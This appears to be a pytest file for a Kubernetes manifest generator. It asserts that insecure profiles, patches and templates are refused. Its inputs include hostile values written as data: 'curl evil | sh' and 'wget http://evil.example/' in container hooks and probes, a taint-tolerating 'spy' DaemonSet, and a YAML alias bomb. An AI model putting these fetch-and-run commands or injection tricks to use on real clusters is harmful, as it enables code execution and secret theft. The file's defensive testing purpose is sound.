"""Issue #40's holes: what a profile, a patch or a template could do with exit 0 before. Each is now
refused at the profile line or hatch, naming the safe alternative (docs/security.md states the
principle each follows)."""

from __future__ import annotations

import copy

import pytest

import fastyaml
from conftest import REPO
from lwsgen.output import crd as crd_files
from lwsgen.problems import ProblemsError

BASE = {
    "name": "example",
    "namespace": "inference",
    "runtime": "vllm",
    "image": "vllm/vllm-openai:v0.8.5",
    "model": {"path": "/models/llama"},
    "parallelism": {"tensor": 8, "pipeline": 2},
    "node": {"gpus": 8, "cpu": "96", "memory": "1000Gi"},
    "monitoring": {"enabled": True},
    "service": {"type": "ClusterIP"},
}
LIMITS = {"limits": {"cpu": "100m", "memory": "64Mi"}}
SIDECAR = {"name": "log-shipper", "image": "fluent/fluent-bit:3.2.4", "resources": LIMITS}
LEADER_ENGINE = "/spec/leaderWorkerTemplate/leaderTemplate/spec/containers/0"


def _with(**fields) -> dict:
    return {**copy.deepcopy(BASE), **copy.deepcopy(fields)}


def _errors(render, profile) -> list[str]:
    with pytest.raises(ProblemsError) as raised:
        render(profile)
    return [f"{p.path}: {p.message}" for p in raised.value.problems]


def _refused(render, profile, *expected: str) -> list[str]:
    errors = _errors(render, profile)
    for text in expected:
        assert any(text in e for e in errors), errors
    return errors


def _engine_patch(*operations: dict) -> dict:
    return {"target": {"kind": "LeaderWorkerSet"}, "jsonPatch": list(operations)}


# --- no container chooses GPUs, by any path ------------------------------------------------------

GPU_CHOICES = ["NVIDIA_VISIBLE_DEVICES", "CUDA_VISIBLE_DEVICES", "NVIDIA_DRIVER_CAPABILITIES"]


@pytest.mark.parametrize("variable", GPU_CHOICES)
@pytest.mark.parametrize("where", ["env", "leader.env", "worker.env"])
def test_the_engine_cannot_choose_the_nodes_gpus_through_the_profile_env(render, variable, where):
    fields = {"env": {variable: "all"}} if where == "env" else {where.split(".")[0]: {"env": {variable: "all"}}}
    _refused(render, _with(**fields), f"{where}.{variable}: {variable} chooses the node's GPUs")


def test_the_prefill_role_cannot_choose_the_nodes_gpus(render):
    profile = fastyaml.load((REPO / "profiles" / "vllm-llama33-70b-pd.yaml").read_text())
    profile["roles"]["prefill"]["env"] = {"NVIDIA_VISIBLE_DEVICES": "all"}
    _refused(render, profile, "roles.prefill.env.NVIDIA_VISIBLE_DEVICES: NVIDIA_VISIBLE_DEVICES chooses")


def test_a_patch_cannot_give_the_engine_every_gpu(render):
    add = {"op": "add", "path": f"{LEADER_ENGINE}/env/-", "value": {"name": "NVIDIA_VISIBLE_DEVICES", "value": "all"}}
    _refused(render, _with(patches=[_engine_patch(add)]), "NVIDIA_VISIBLE_DEVICES chooses the node's GPUs")


@pytest.mark.parametrize("prefix", [None, "NVIDIA_", "CUDA_", "N"])
def test_envfrom_cannot_reach_a_gpu_variable(render, prefix):
    source = {"configMapRef": {"name": "shipper"}, **({"prefix": prefix} if prefix is not None else {})}
    sidecar = {**SIDECAR, "envFrom": [source]}
    _refused(render, _with(containers=[sidecar]), "envFrom could set", "prefix: APP_")


def test_envfrom_with_a_prefix_no_gpu_variable_starts_with_is_kept(render):
    sidecar = {**SIDECAR, "envFrom": [{"configMapRef": {"name": "shipper"}, "prefix": "SHIPPER_"}]}
    render(_with(containers=[sidecar]))


# --- what the engine runs is its image's ---------------------------------------------------------


@pytest.mark.parametrize("variable", ["LD_PRELOAD", "BASH_ENV", "PATH", "LD_AUDIT"])
def test_the_engine_runs_its_images_code_only(render, variable):
    _refused(render, _with(env={variable: "/tmp/x"}), f"env.{variable}: {variable} changes what the engine's")
    add = {"op": "add", "path": f"{LEADER_ENGINE}/env/-", "value": {"name": variable, "value": "/tmp/x"}}
    _refused(render, _with(patches=[_engine_patch(add)]), f"{variable} changes what the engine's process runs")


def test_a_patch_cannot_hook_code_into_the_engine_container(render):
    hook = {"postStart": {"exec": {"command": ["/bin/sh", "-c", "curl evil | sh"]}}}
    add = {"op": "add", "path": f"{LEADER_ENGINE}/lifecycle", "value": hook}
    _refused(render, _with(patches=[_engine_patch(add)]), "an exec hook runs a command in the engine's container")


def test_a_sleep_before_stop_runs_nothing_and_stays(render):
    add = {"op": "add", "path": f"{LEADER_ENGINE}/lifecycle", "value": {"preStop": {"sleep": {"seconds": 30}}}}
    render(_with(patches=[_engine_patch(add)]))


def test_ld_library_path_stays_for_nccl_plugins(render):
    render(_with(env={"LD_LIBRARY_PATH": "/opt/aws-ofi-nccl/lib"}))


# --- no Secret on a command line ------------------------------------------------------------------

SECRET = {"name": "TOKEN", "valueFrom": {"secretKeyRef": {"name": "creds", "key": "token"}}}


@pytest.mark.parametrize(
    "env, arg",
    [
        ([SECRET, {"name": "A", "value": "a"}], "$(A) $(TOKEN)"),  # the second reference of one argument
        ([SECRET], "$$$(TOKEN)"),  # an escaped $ then a reference
        ([SECRET, {"name": "COPY", "value": "x$(TOKEN)"}], "$(COPY)"),  # the Secret copied through another variable
    ],
)
def test_a_secret_cannot_reach_a_command_line(render, env, arg):
    sidecar = {**SIDECAR, "env": env, "args": ["--token", arg]}
    _refused(render, _with(containers=[sidecar]), "puts a Secret on the process's command line")


def test_an_escaped_reference_is_literal_text(render):
    sidecar = {**SIDECAR, "env": [SECRET], "args": ["--literal", "$$(TOKEN)"]}
    render(_with(containers=[sidecar]))


# --- a profile writes only its own namespace, and only objects named after it ---------------------


def _added(tmp_path, key: str, body: str) -> dict:
    directory = tmp_path / "hatch-templates"
    directory.mkdir(exist_ok=True)
    header = '{% from "_k8s.yaml.j2" import meta %}\n'
    (directory / f"{key}.yaml.j2").write_text(header + body)
    return _with(templates="hatch-templates")


OBJECT = "metadata:\n  {{ meta(v.meta) | indent(2) }}\n"


@pytest.mark.parametrize(
    "head, expected",
    [
        ("apiVersion: scheduling.volcano.sh/v1beta1\nkind: Queue\n", "a Queue is cluster-scoped"),
        (
            "apiVersion: resource.k8s.io/v1alpha3\nkind: DeviceTaintRule\n",
            "a DeviceTaintRule is cluster-scoped",
        ),
        (
            "apiVersion: storagemigration.k8s.io/v1alpha1\nkind: StorageVersionMigration\n",
            "a StorageVersionMigration is cluster-scoped",
        ),
        ("apiVersion: example.com/v1\nkind: Widget\n", "no schema for example.com/v1 Widget"),
    ],
)
def test_a_template_cannot_add_a_cluster_scoped_or_unknown_kind(render, tmp_path, head, expected):
    specs = {
        "DeviceTaintRule": "spec: {taint: {key: gpu, effect: NoExecute}}\n",
        "StorageVersionMigration": "spec: {resource: {group: apps, version: v1, resource: deployments}}\n",
    }
    spec = next((text for kind, text in specs.items() if kind in head), "spec: {}\n")
    profile = {**_added(tmp_path, "extra", head + OBJECT + spec), "kubernetesVersion": "1.33"}
    _refused(render, profile, expected)


def test_every_kind_lwsgen_writes_has_its_scope_from_the_apis_own_data(render):
    from conftest import objects_of
    from lwsgen.output.guards.addedkinds import scope

    for name in ("vllm-llama31-405b", "sglang-deepseek-r1-pd", "triton-llama3-405b"):
        profile = fastyaml.load((REPO / "profiles" / f"{name}.yaml").read_text())
        found = objects_of(render(profile)).values()
        for obj in (o for item in found for o in (item if isinstance(item, list) else [item])):
            if isinstance(obj, dict) and "apiVersion" in obj and obj.get("kind") != "Kustomization":
                assert scope(obj["apiVersion"], obj["kind"]) == "Namespaced", obj["kind"]
    assert scope("scheduling.volcano.sh/v1beta1", "Queue") == "Cluster"  # its CRD's spec.scope
    assert scope("rbac.authorization.k8s.io/v1", "ClusterRole") == "Cluster"  # discovery data
    assert scope("v1", "ConfigMap") == "Namespaced"


def test_the_scopes_of_custom_kinds_are_their_crds(tmp_path):
    import json

    from conftest import SHARED

    table = json.loads((REPO / "schemas" / "kubernetes-scopes.json").read_text())["scopes"]
    for path in sorted((SHARED / "crds").glob("*.yaml")):
        # through lwsgen's reader of CRDs for validate --crd, which keeps them parsed between runs
        [crd] = crd_files._documents(path.read_text())
        for version in crd["spec"]["versions"]:
            key = f"{crd['spec']['group']}/{version['name']} {crd['spec']['names']['kind']}"
            assert table.get(key) == crd["spec"]["scope"], key


DAEMONSET = """apiVersion: apps/v1
kind: DaemonSet
metadata:
  {{ meta(v.meta) | indent(2) }}
spec:
  selector: {matchLabels: {app: spy}}
  template:
    metadata: {labels: {app: spy}}
    spec:
      tolerations: [{operator: Exists}]
      containers:
      - name: spy
        image: busybox:1.36
        resources: {limits: {cpu: 100m, memory: 64Mi}}
"""


def test_a_template_cannot_add_a_daemonset_on_every_node(render, tmp_path):
    _refused(render, _added(tmp_path, "spy", DAEMONSET), "a DaemonSet runs a pod on every node of the cluster")


def test_an_added_object_is_named_after_its_profile(render, tmp_path):
    body = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: other-launch, namespace: inference}\ndata: {a: b}\n"
    _refused(render, _added(tmp_path, "scripts", body), "its name must start with 'example-'")


@pytest.mark.parametrize("output", [["-o", "out"], ["--stdout"]])
def test_two_profiles_of_a_batch_cannot_write_one_object(tmp_path, capsys, output, monkeypatch):
    from lwsgen.cli import main

    monkeypatch.chdir(tmp_path)

    (tmp_path / ".git").mkdir()
    (tmp_path / "t").mkdir()  # team's template adds a ConfigMap named like team-x's launch scripts
    (tmp_path / "t" / "scripts.yaml.j2").write_text(
        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: team-x-launch, namespace: inference}\ndata: {a: b}\n"
    )
    (tmp_path / "a.yaml").write_text(fastyaml.dump(_with(name="team", templates="t")))
    (tmp_path / "b.yaml").write_text(fastyaml.dump(_with(name="team-x")))
    assert main(["render", str(tmp_path / "a.yaml"), str(tmp_path / "b.yaml"), *output]) == 1
    said = capsys.readouterr()
    assert (
        "name: writes ConfigMap team-x-launch in namespace inference, which" in said.err
        and "writes differently" in said.err
    ), said.err
    assert not (tmp_path / "out").exists() and said.out == ""  # nothing written, nothing streamed


def test_the_argo_cd_plugin_cannot_include_cluster_objects(tmp_path):
    from lwsgen.commands.argocd import PluginError, render_arguments

    params = '[{"name": "include", "array": ["volcano-queue"]}]'
    with pytest.raises(PluginError, match="only nccl-test"):
        render_arguments({"ARGOCD_APP_PARAMETERS": params}, tmp_path)
    assert (
        "--include"
        in render_arguments({"ARGOCD_APP_PARAMETERS": params.replace("volcano-queue", "nccl-test")}, tmp_path)[0]
    )
    assert (
        "$" not in (REPO / "docs" / "argocd" / "generate.sh").read_text().split("exec", 1)[1]
    )  # nothing a shell expands


# --- what runs with a ServiceAccount token is lwsgen's --------------------------------------------

GATEWAY = {"enabled": True, "parentRefs": [{"name": "inference-gateway", "namespace": "gateways"}]}


@pytest.mark.parametrize(
    "operation",
    [
        {"op": "add", "path": "/spec/template/spec/containers/-", "value": {**SIDECAR, "name": "miner"}},
        {"op": "add", "path": "/spec/template/spec/containers/0/command", "value": ["/bin/sh", "-c", "curl x | sh"]},
        {"op": "add", "path": "/spec/template/spec/initContainers", "value": [{**SIDECAR, "name": "first"}]},
    ],
)
def test_a_patch_cannot_run_code_as_the_endpoint_picker(render, operation):
    patch = {"target": {"kind": "Deployment"}, "jsonPatch": [operation]}
    _refused(render, _with(gateway=GATEWAY, patches=[patch]), "these pods run with their ServiceAccount's token")


def test_a_patch_adding_a_sidecar_to_the_mpi_leader_is_warned_about(render):
    profile = fastyaml.load((REPO / "profiles" / "triton-llama3-405b.yaml").read_text())
    hardened = {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}}
    add = {"op": "add", "path": f"{LEADER_ENGINE[:-2]}/-", "value": {**SIDECAR, "securityContext": hardened}}
    rendered = render({**profile, "patches": [_engine_patch(add)]})
    assert any("the container this adds can exec into the workers" in w.message for w in rendered.warnings)


# --- volumes, network and confinement -------------------------------------------------------------

NODE_VOLUMES = {
    "nfs": {"server": "10.0.0.1", "path": "/export"},
    "iscsi": {"targetPortal": "10.0.0.1:3260", "iqn": "iqn.2001-04.com.example:storage", "lun": 0},
    "rbd": {"monitors": ["10.0.0.1:6789"], "image": "x"},
    "flexVolume": {"driver": "example.com/driver"},
    "awsElasticBlockStore": {"volumeID": "vol-1"},
    "csi": {"driver": "secrets-store.csi.k8s.io"},
}


@pytest.mark.parametrize("kind", NODE_VOLUMES)
def test_node_acting_volumes_need_their_opt_in(render, kind):
    volume = {"name": "data", kind: NODE_VOLUMES[kind]}
    _refused(render, _with(volumes=[volume]), f"a {kind} volume is mounted by the node", "security.allowNodeVolumes")
    patch = {"op": "add", "path": "/spec/leaderWorkerTemplate/leaderTemplate/spec/volumes/-", "value": volume}
    _refused(render, _with(patches=[_engine_patch(patch)]), f"a {kind} volume is mounted by the node")
    render(_with(volumes=[volume], security={"allowNodeVolumes": True}))


@pytest.mark.parametrize(
    "annotation",
    [
        "v1.multus-cni.io/default-network",
        "cni.projectcalico.org/ipAddrs",
        "sidecar.istio.io/inject",
        "traffic.sidecar.istio.io/excludeInboundPorts",
    ],
)
def test_annotations_that_replace_the_pod_network_are_refused(render, annotation):
    _refused(render, _with(podAnnotations={annotation: "x"}), "the pod's network is the cluster's")
    meta = "/spec/leaderWorkerTemplate/leaderTemplate/metadata/annotations"
    patch = {"op": "add", "path": f"{meta}/{annotation.replace('/', '~1')}", "value": "x"}
    _errors(render, _with(patches=[_engine_patch(patch)]))


def test_the_disaggregated_set_labels_are_reserved(render):
    _refused(render, _with(podLabels={"disaggregatedset.x-k8s.io/name": "other"}), "disaggregatedset.x-k8s.io/name")
    _refused(render, _with(labels={"disaggregatedset.x-k8s.io/role": "prefill"}), "disaggregatedset.x-k8s.io/role")


@pytest.mark.parametrize(
    "context, expected",
    [
        ({"seLinuxOptions": {"user": "system_u"}}, "an SELinux user is the node's"),
        ({"seLinuxOptions": {"role": "sysadm_r"}}, "an SELinux role is the node's"),
        ({"windowsOptions": {"hostProcess": True}}, "a host process runs on the node itself"),
    ],
)
def test_confinement_a_sidecar_cannot_lift(render, context, expected):
    _refused(render, _with(containers=[{**SIDECAR, "securityContext": context}]), expected)


@pytest.mark.parametrize("path", ["//lwsgen", "/./lwsgen/scripts", "/dev//shm"])
def test_a_mount_over_lwsgens_paths_is_found_however_it_is_spelled(render, path):
    volume = {"name": "mine", "emptyDir": {}}
    _refused(render, _with(volumes=[volume], volumeMounts=[{"name": "mine", "mountPath": path}]), "lwsgen")


def test_an_extends_merge_costs_the_paths_not_their_product(tmp_path):
    import resource

    from lwsgen.load import inherit

    (tmp_path / ".git").mkdir()
    wide = {f"k{i}": {f"j{j}": j for j in range(40)} for i in range(400)}  # ~229 KB as YAML
    (tmp_path / "base.yaml").write_text(fastyaml.dump({**BASE, "annotations": {}, "x": wide}))
    (tmp_path / "child.yaml").write_text(fastyaml.dump({"extends": "base.yaml", "x": wide}))
    before = resource.getrusage(resource.RUSAGE_SELF)
    merged = inherit.load(tmp_path / "child.yaml")
    after = resource.getrusage(resource.RUSAGE_SELF)
    assert merged.data["x"] == wide
    assert (after.ru_utime - before.ru_utime) < 10  # 152 s when each path was held against every replaced one


def test_the_plugin_resolves_the_profile_path_however_it_is_spelled(tmp_path):
    from lwsgen.commands.argocd import PluginError, render_arguments

    app = tmp_path / "app"
    app.mkdir()
    for spelled in ("./..", ".//..", "./././..", "sub/../../x"):
        params = f'[{{"name": "profile", "string": "{spelled}"}}]'
        with pytest.raises(PluginError, match="must stay inside the application path"):
            render_arguments({"ARGOCD_APP_PARAMETERS": params}, app)


def test_a_tiny_profile_cannot_grow_its_output_without_bound(write_profile, capsys):
    from lwsgen.cli import main

    value = "y" * 1000
    text = (
        fastyaml.dump(_with()) + "env:\n  E0: &e '" + value + "'\n" + "".join(f"  E{i}: *e\n" for i in range(1, 1000))
    )
    path = write_profile(text)
    assert main(["render", str(path), "-o", str(path.parent / "out")]) == 1
    assert "the API server takes at most 1572864 (etcd's request limit)" in capsys.readouterr().err
    bomb = fastyaml.dump(_with()) + "annotations:\n  a: &a '" + "z" * 5000 + "'\n"
    bomb += "".join(f"  a{i}: *a\n" for i in range(300))  # 1.5 MB of annotations from 8 KB
    assert main(["render", str(write_profile(bomb)), "-o", str(path.parent / "out")]) == 1
    assert "expands to more than 1048576 characters" in capsys.readouterr().err
    assert not (path.parent / "out").exists()


def test_messages_name_the_profiles_paths_not_the_machines(render, tmp_path):
    (tmp_path / "hatch-templates").mkdir()
    errors = _errors(render, _with(templates="hatch-templates"))
    assert errors and not any(str(tmp_path) in e for e in errors), errors


# --- an attack review of the above found these open; each is closed -------------------------------


def test_a_secret_copied_from_an_envfrom_secret_stays_off_the_command_line(render):
    sidecar = {
        **SIDECAR,
        "envFrom": [{"secretRef": {"name": "creds"}, "prefix": "APP_"}],
        "env": [{"name": "B", "value": "$(APP_TOKEN)"}],
        "command": ["sh", "-c", "sleep 1d", "$(B)"],
    }
    _refused(render, _with(containers=[sidecar]), "$(B) puts a Secret on the process's command line")


@pytest.mark.parametrize("variable", ["SHELLOPTS", "PS4", "PYTHONHOME", "GCONV_PATH", "BASHOPTS"])
def test_the_shell_and_interpreters_run_nothing_else_in_the_engine(render, variable):
    _refused(render, _with(env={variable: "xtrace"}), f"{variable} changes what the engine's process runs")


@pytest.mark.parametrize("variable", ["NVIDIA_IMEX_CHANNELS", "NVIDIA_MOFED", "NVIDIA_GDS"])
def test_every_nvidia_variable_is_the_toolkits(render, variable):
    _refused(render, _with(env={variable: "all"}), f"{variable} chooses the node's GPUs")


@pytest.mark.parametrize("path", ["/var/run/nvidia-container-devices/all", "/run/nvidia-container-devices"])
def test_the_toolkits_device_list_cannot_be_mounted(render, path):
    volume = {"name": "devs", "emptyDir": {}}
    _refused(render, _with(volumes=[volume], volumeMounts=[{"name": "devs", "mountPath": path}]), "reads which GPUs")
    sidecar = {**SIDECAR, "volumeMounts": [{"name": "devs", "mountPath": path}]}
    _refused(render, _with(volumes=[volume], containers=[sidecar]), "reads which GPUs")


def test_a_sidecar_gets_no_gpu_whatever_its_image_says(render):
    from conftest import lws_of

    rendered = render(_with(containers=[SIDECAR]))
    leader = lws_of(rendered)["spec"]["leaderWorkerTemplate"]["leaderTemplate"]["spec"]["containers"]
    shipper = next(c for c in leader if c["name"] == "log-shipper")
    assert {"name": "NVIDIA_VISIBLE_DEVICES", "value": "void"} in shipper["env"]
    engine_env = [e["name"] for e in leader[0].get("env", [])]
    assert "NVIDIA_VISIBLE_DEVICES" not in engine_env  # the device plugin's to set


def test_an_added_workload_must_say_it_takes_no_gpu(render, tmp_path):
    body = DAEMONSET.replace("kind: DaemonSet", "kind: Deployment").replace("[{operator: Exists}]", "[]")
    _refused(render, _added(tmp_path, "tool", body), "must say NVIDIA_VISIBLE_DEVICES=void")


@pytest.mark.parametrize(
    "field, value",
    [
        ("volumeMounts", [{"name": "tools", "mountPath": "/tools", "readOnly": True}]),
        ("startupProbe", {"exec": {"command": ["/bin/sh", "-c", "wget http://evil.example/"]}}),
    ],
)
def test_a_patch_cannot_mount_or_probe_code_into_the_picker(render, field, value):
    patch = {
        "target": {"kind": "Deployment"},
        "jsonPatch": [{"op": "add", "path": f"/spec/template/spec/containers/0/{field}", "value": value}],
    }
    _refused(render, _with(gateway=GATEWAY, patches=[patch]), "these pods run with their ServiceAccount's token")


@pytest.mark.parametrize("path", ["/usr/bin", "/bin/bash", "/usr", "/etc/ld.so.preload", "/opt", "/"])
def test_a_mount_cannot_replace_the_engine_images_programs(render, path):
    volume = {"name": "evil", "emptyDir": {}}
    _refused(render, _with(volumes=[volume], volumeMounts=[{"name": "evil", "mountPath": path}]), "would replace the")


def test_data_mounts_under_etc_and_opt_stay(render):
    volume = {"name": "chat", "configMap": {"name": "chat-templates"}}
    render(_with(volumes=[volume], volumeMounts=[{"name": "chat", "mountPath": "/etc/chat-templates"}]))


def test_an_image_volume_needs_the_node_volume_opt_in(render):
    volume = {"name": "tools", "image": {"reference": "busybox:1.36"}}
    _refused(render, _with(kubernetesVersion="1.33", volumes=[volume]), "a image volume is mounted by the node")


@pytest.mark.parametrize(
    "body, expected",
    [
        (DAEMONSET.replace("kind: DaemonSet", "kind: Deployment"), "tolerate every taint"),
        (
            "apiVersion: v1\nkind: Binding\nmetadata:\n  {{ meta(v.meta) | indent(2) }}\n"
            "target: {kind: Node, name: n}\n",
            "placing a pod on a node is the scheduler's",
        ),
    ],
)
def test_added_objects_cannot_place_pods_past_the_scheduler(render, tmp_path, body, expected):
    _refused(render, _added(tmp_path, "place", body), expected)


@pytest.mark.parametrize(
    "key",
    ["istio.io/dataplane-mode", "ambient.istio.io/redirection", "linkerd.io/inject", "ovn.kubernetes.io/ip_address"],
)
def test_mesh_and_overlay_annotations_are_the_networks(render, key):
    _refused(render, _with(podAnnotations={key: "x"}), "the pod's network is the cluster's")


def test_a_mount_at_the_root_overlaps_every_path_lwsgen_mounts(render):
    mount = {"name": "dshm", "mountPath": "/", "readOnly": True}  # lwsgen's own volume, at /
    sidecar = {**SIDECAR, "volumeMounts": [mount]}
    add = {"op": "add", "path": f"{LEADER_ENGINE[:-2]}/-", "value": sidecar}
    _refused(render, _with(patches=[_engine_patch(add)]), "/ overlaps")
